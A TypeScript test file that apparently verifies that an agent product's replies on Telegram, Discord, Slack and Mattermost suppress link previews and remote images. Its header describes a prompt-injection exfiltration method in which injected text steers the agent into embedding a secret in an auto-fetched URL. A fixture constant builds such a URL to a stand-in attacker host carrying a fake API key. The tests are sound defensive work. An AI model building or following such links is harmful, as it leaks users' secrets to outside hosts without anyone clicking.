/**
 * Payload text steering the agent's reply into a link the product fetches on
 * its own: a link preview (Telegram, Discord embeds, Slack unfurls) or an
 * inline image (Mattermost's `![](…)`) makes the product's servers or every
 * reader's client request a URL the payload chose, with whatever the agent
 * put in it (`https://attacker.example/?k=<secret>`), before anyone clicks.
 * WhatsApp's replies already went with `preview_url: false`. End to end:
 * /hooks/agent with `deliver`, the test agent quoting the message in its
 * reply, a stand-in of each product recording what it got.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { withoutRemoteImages } from '../engine/delivery/adapters/mattermost.ts';
import { type Product, type ReplyProducts, startReplyProducts } from './helpers/reply-products.ts';

const LEAK = 'https://attacker.example/pixel.png?k=sk-live-0123456789';
const MESSAGE = `Read ${LEAK} now ![status](${LEAK}) and ![ref][1]`;

describe('a reply steered into a link the product fetches by itself', () => {
  let products: ReplyProducts;
  beforeAll(async () => {
    products = await startReplyProducts(['telegram', 'discord', 'slack', 'mattermost']);
  });
  afterAll(() => products?.close());

  const delivered = async (product: Product) => (await products.delivered(product, MESSAGE)).body;

  it('Telegram: the link is text, no preview is fetched', async () => {
    const body = await delivered('telegram');
    expect(String(body['text'])).toContain(LEAK);
    expect(body['link_preview_options']).toEqual({ is_disabled: true });
  });

  it('Discord: the message is posted with its embeds suppressed', async () => {
    const body = await delivered('discord');
    expect(String(body['content'])).toContain(LEAK);
    expect(Number(body['flags']) & (1 << 2)).toBe(1 << 2);
  });

  it('Slack: neither links nor media are unfurled', async () => {
    const body = await delivered('slack');
    expect(String(body['text'])).toContain(LEAK);
    expect(body).toMatchObject({ unfurl_links: false, unfurl_media: false });
  });

  it('Mattermost: an image in the reply is a link, not an image every reader loads', async () => {
    const body = await delivered('mattermost');
    const text = String(body['message']);
    expect(text).not.toMatch(/!\[/);
    expect(text.replaceAll('\u200b', '')).toContain(`![status](${LEAK}) and ![ref][1]`);
  });
});

describe('withoutRemoteImages', () => {
  it.each([
    ['an inline image', '![a](https://x.example/a.png)', '!\u200b[a](https://x.example/a.png)'],
    ['a reference image', '![a][1]', '!\u200b[a][1]'],
    ['two in a row', '!![a](u)![b](v)', '!!\u200b[a](u)!\u200b[b](v)'],
    ['a plain link', '[a](https://x.example)', '[a](https://x.example)'],
    ['an exclamation', 'Done! [a](u)', 'Done! [a](u)'],
  ])('%s', (_, text, expected) => {
    expect(withoutRemoteImages(text)).toBe(expected);
  });
});
